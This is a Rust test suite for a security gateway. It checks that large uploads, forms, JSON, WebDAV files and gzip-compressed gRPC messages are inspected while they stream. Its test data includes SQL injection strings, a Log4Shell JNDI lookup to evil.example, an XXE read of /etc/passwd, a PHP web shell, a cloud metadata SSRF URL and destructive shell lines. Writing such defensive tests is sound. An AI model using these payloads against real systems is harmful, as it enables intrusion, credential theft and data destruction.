//! Bodies that are longer than what is held: those that need not be read as a whole pass, and are judged on their way.

use crate::frames::Http2;
use crate::support::{Recorder, Running, status};
use crate::way_back::gzip;

const MIB: usize = 1 << 20;

/// Bytes without a meaning.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()
    };
    std::iter::repeat_with(next).flatten().take(length).collect()
}

fn image(length: usize) -> Vec<u8> {
    [&b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"[..], &noise(length)].concat()
}

fn form(parts: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (disposition, kind, content) in parts {
        let kind = if kind.is_empty() { String::new() } else { format!("Content-Type: {kind}\r\n") };
        let head = format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n{kind}\r\n");
        body.extend_from_slice(head.as_bytes());
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--B--\r\n");
    body
}

const FORM: &str = "multipart/form-data; boundary=B";
const ATTACK: &[u8] = b"x' UNION SELECT password FROM users -- ";

#[test]
fn files_of_every_kind_pass_whole() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    let text = b"INSERT INTO notes VALUES ('a'); -- <script>\nrm -rf / ; cat x\n".repeat(40_000);
    let photo = form(&[
        ("name=\"title\"", "", b"My cat"),
        ("name=\"file\"; filename=\"cat.png\"", "image/png", &image(3 * MIB)),
        ("name=\"after\"", "", b"1"),
    ]);
    let packet = form(&[
        ("name=\":action\"", "", b"file_upload"),
        ("name=\"content\"; filename=\"a.whl\"", "application/octet-stream", &noise(2 * MIB)),
    ]);
    for (method, kind, body) in [
        ("POST", FORM, photo),
        ("POST", FORM, packet),
        ("PUT", "image/png", image(2 * MIB)),
        ("PUT", "application/octet-stream", noise(3 * MIB)),
        ("PUT", "", noise(2 * MIB)),
        ("PUT", "application/octet-stream", text),
        ("POST", "application/x-git-receive-pack-request", [&b"00a0PACK"[..], &noise(2 * MIB)].concat()),
        ("PATCH", "application/octet-stream", [&b"\x1f\x8b\x08\0"[..], &noise(2 * MIB)].concat()),
        ("POST", "application/json", format!("[\"{}\"]", "a".repeat(3 * MIB)).into_bytes()),
    ] {
        let answer = gate.ask(method, "/files/1", &[("Content-Type", kind)], &body);
        assert_eq!(
            status(&answer),
            200,
            "{method} {kind}: {answer} {:?}",
            gate.events.all().iter().rev().nth(1)
        );
        assert!(upstream.take_bytes().ends_with(&body), "{method} {kind}");
    }
}

#[test]
fn what_is_judged_of_a_long_body_is_refused_before_or_while_it_passes() {
    let file = image(2 * MIB);
    let lookup = "${jndi:ldap://evil.example/a}";
    let first = form(&[("name=\"q\"", "", ATTACK), ("name=\"f\"; filename=\"a.png\"", "image/png", &file)]);
    let last = form(&[("name=\"f\"; filename=\"a.png\"", "image/png", &file), ("name=\"q\"", "", ATTACK)]);
    let name = form(&[(&format!("name=\"f\"; filename=\"{lookup}\""), "image/png", &file)]);
    let doubled = form(&[("name=\"f\"; filename=\"a\"; filename=\"b\"", "image/png", &file)]);
    let pieces = form(&[
        ("name=\"a\"", "", b"x' union/*"),
        ("name=\"f\"; filename=\"a.png\"", "image/png", &file),
        ("name=\"b\"", "", b"*/select password from users -- "),
    ]);
    let long_field = form(&[("name=\"q\"", "", &b"a".repeat(2 * MIB))]);
    let json = format!("{{\"a\":\"{}\",\"q\":\"x' OR 1=1 -- \"}}", "a".repeat(2 * MIB)).into_bytes();
    let huge = format!("[\"{}\"]", "a".repeat(9 * MIB)).into_bytes();
    let plus: Vec<u8> = ATTACK.iter().map(|byte| if *byte == b' ' { b'+' } else { *byte }).collect();
    let padded = [&b"a="[..], &b"b".repeat(2 * MIB), b"&q=", &plus].concat();
    for (kind, body, expected, is_before) in [
        (FORM, &first, 403, true),
        (FORM, &name, 403, true),
        (FORM, &doubled, 400, true),
        (FORM, &last, 403, false),
        (FORM, &pieces, 403, false),
        (FORM, &long_field, 413, true),
        ("application/json", &json, 403, true),
        ("application/json", &huge, 413, true),
        ("application/octet-stream", &json, 403, true),
        ("", &padded, 403, true),
        ("application/x-www-form-urlencoded", &padded, 403, true),
    ] {
        let upstream = Recorder::plain();
        let gate = Running::start("", &[upstream.url()]);
        let answer = gate.ask("POST", "/files", &[("Content-Type", kind)], body);
        let limit = ["body-too-large", "max_decoded_body"];
        assert_eq!(gate.events.has(&limit), std::ptr::eq(body, &huge), "{:?}", gate.events.all());
        assert_eq!(status(&answer), expected, "{kind} {answer} {:?}", gate.events.all().last());
        let seen = upstream.take_bytes();
        // What passes before may still be under way.
        assert!(!is_before || seen.is_empty(), "{kind} of {} bytes reached the API", body.len());
        assert!(!seen.windows(ATTACK.len()).any(|window| window == ATTACK), "the attack has passed");
    }
    let upstream = Recorder::plain();
    let gate = Running::start("[protocol]\nmax_body = '1500 KiB'", &[upstream.url()]);
    for (kind, body) in [(FORM, &last), ("image/png", &file)] {
        let answer = gate.ask("POST", "/files", &[("Content-Type", kind)], body);
        assert_eq!(status(&answer), 413, "{answer}");
    }
    assert!(gate.events.has(&["body-too-large", "`max_body`"]));
}

#[test]
fn a_route_that_reads_its_bodies_has_them_whole() {
    let upstream = Recorder::plain();
    let body = form(&[("name=\"f\"; filename=\"a.png\"", "image/png", &image(9 * MIB))]);
    for policy in [
        "[[route]]\npath = '/f'\nfields = ['f']",
        "[[route]]\npath = '/f'\nsanitize = { note = 'strip' }",
        // A field `_method` would make it another request.
        "[[route]]\npath = '/f'\nmethods = ['DELETE']\nlimits = ['1 per day']",
    ] {
        let gate = Running::start(policy, &[upstream.url()]);
        let answer = gate.ask("POST", "/f", &[("Content-Type", FORM)], &body);
        assert_eq!(status(&answer), 413, "{policy}: {answer}");
        assert!(upstream.take_bytes().is_empty());
        assert_eq!(status(&gate.ask("POST", "/other", &[("Content-Type", FORM)], &body)), 200);
        upstream.take_bytes();
    }
}

#[test]
fn the_beginning_of_a_file_takes_no_form_out_of_judging() {
    let upstream = Recorder::plain();
    let gate = Running::start("[[route]]\npath = '/s'\nbody = 'stream'", &[upstream.url()]);
    let magic = [&b"\x89PNG\r\n\x1a\n"[..], &[0xff; 40]].concat();
    for (path, kind, rest) in [
        ("/s", "application/x-www-form-urlencoded", &b"=1&q=' OR 1=1 -- "[..]),
        ("/", "application/x-www-form-urlencoded", b"=1&q=' OR 1=1 -- "),
        ("/", "application/x-ndjson", b"\n{\"q\":\"x' OR 1=1 -- \"}\n"),
        ("/", "application/x-yaml", b"\nq: x' OR 1=1 -- \n"),
    ] {
        let body = [&magic[..], rest].concat();
        let answer = gate.ask("POST", path, &[("Content-Type", kind)], &body);
        assert!(status(&answer) >= 400, "{path} {kind}: {answer}");
    }
}

#[test]
fn files_are_stored_as_they_are_by_put_as_in_a_form() {
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    for (name, kind, text) in [
        (
            "a.html",
            "text/html",
            "<!DOCTYPE html><html><body onload=\"go()\"><script>alert(1)</script></body></html>",
        ),
        ("a.sh", "text/x-shellscript", "#!/bin/sh\nrm -rf dist; cat /etc/passwd | mail\n"),
        ("a.sql", "application/sql", "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --\n"),
        ("a.php", "", "<?php system($_GET['c']); ?>"),
        ("a.py", "application/octet-stream", "import os\nos.system('id')\n"),
    ] {
        let answer = gate.ask("PUT", &format!("/dav/{name}"), &[("Content-Type", kind)], text.as_bytes());
        assert_eq!(status(&answer), 200, "{name}: {answer} {:?}", gate.events.all());
    }
    for (kind, text) in [
        ("text/plain", "${jndi:ldap://evil.example/a}"),
        ("", "{\"q\":\"x' OR 1=1 -- \"}"),
        ("text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
    ] {
        let answer = gate.ask("PUT", "/dav/a", &[("Content-Type", kind)], text.as_bytes());
        assert!(status(&answer) >= 400, "{text}: {answer}");
    }
    let post = gate.ask("POST", "/dav/a", &[("Content-Type", "text/plain")], b"x; cat /etc/passwd");
    assert_eq!(status(&post), 403);
}

#[test]
fn messages_of_grpc_are_judged_by_their_fields_and_without_compression() {
    let upstream = Recorder::plain();
    // A gateway that lets everything pass speaks HTTP/2 in front of it.
    let open = "[doors]\nprotocol = 'off'\ninjection = 'off'\nrate = 'off'";
    let behind = Running::start(open, &[upstream.url()]);
    let gate = Running::start("[rate]\nlimits = []", &[format!("h2c://{}", behind.address)]);
    let field = |number: u8, content: &[u8]| {
        let mut length = content.len();
        let mut bytes = vec![number << 3 | 2];
        while length >= 0x80 {
            bytes.push((length as u8 & 0x7f) | 0x80);
            length >>= 7;
        }
        bytes.push(length as u8);
        bytes.extend_from_slice(content);
        bytes
    };
    let message = |flag: u8, content: &[u8]| {
        [&[flag][..], &u32::try_from(content.len()).unwrap().to_be_bytes(), content].concat()
    };
    let ask = |coding: &str, body: &[u8]| {
        let mut client = Http2::connect(gate.address, 65_535);
        let mut headers = vec![("content-type", "application/grpc"), ("te", "trailers")];
        if !coding.is_empty() {
            headers.push(("grpc-encoding", coding));
        }
        let stream = client.request("POST", "/a.B/C", &headers);
        for piece in body.chunks(16_000) {
            client.data(stream, piece, false);
        }
        client.data(stream, b"", true);
        let (head, _) = client.answer(stream);
        (String::from_utf8_lossy(&head).into_owned(), upstream.take_bytes())
    };
    let attacks: [&[u8]; 4] = [
        b"' OR 1=1 -- ",
        b"http://169.254.169.254/latest/meta-data/",
        b"x\r\nSet-Cookie: a=b",
        b"<script>alert(1)</script>",
    ];
    for attack in attacks {
        let nested = field(3, &[field(1, b"Ada"), field(2, attack)].concat());
        let plain = [field(2, &b"a".repeat(400)), nested].concat();
        for (coding, body) in [
            ("", message(0, &plain)),
            ("gzip", message(1, &gzip(&plain))),
            ("gzip", [message(0, &field(1, b"Ada")), message(1, &gzip(&plain))].concat()),
        ] {
            let (_, seen) = ask(coding, &body);
            let text = String::from_utf8_lossy(attack).into_owned();
            assert!(!String::from_utf8_lossy(&seen).contains(&text), "{text} has passed with {coding}");
            assert!(gate.events.has(&["\"verdict\":\"refused\"", "/a.B/C"]), "{text}");
        }
    }
    let honest =
        [field(1, "O'Brien & Söhne".as_bytes()), field(2, &noise(20_000)), field(3, &[0x3f; 64])].concat();
    let (_, seen) = ask("", &message(0, &honest));
    assert!(seen.ends_with(&message(0, &honest)), "{:?}", gate.events.all().last());
    let (_, seen) = ask("gzip", &message(1, &gzip(&honest)));
    assert!(seen.ends_with(&message(0, &honest)), "{:?}", gate.events.all().last());
    let (_, seen) = ask("snappy", &message(1, b"\x05\x10hello"));
    assert!(!seen.ends_with(b"hello"));
    assert!(gate.events.has(&["grpc-encoding"]));
}

#[test]
fn binary_data_is_no_attack_by_chance() {
    let upstream = Recorder::plain();
    let gate = Running::start("[rate]\nlimits = []", &[upstream.url()]);
    let data = noise(4 * MIB);
    for size in [20_000, 100_000, 900_000] {
        for piece in data.chunks_exact(size).take(20) {
            let answer = gate.ask("POST", "/b", &[("Content-Type", "application/octet-stream")], piece);
            assert_eq!(status(&answer), 200, "{size} {:?}", gate.events.all().iter().rev().nth(1));
        }
    }
    let hidden =
        [&noise(10_000)[..], b"\0/q?x=' UNION SELECT password FROM users -- \0", &noise(10_000)].concat();
    let answer = gate.ask("POST", "/b", &[("Content-Type", "application/octet-stream")], &hidden);
    assert_eq!(status(&answer), 403);
}
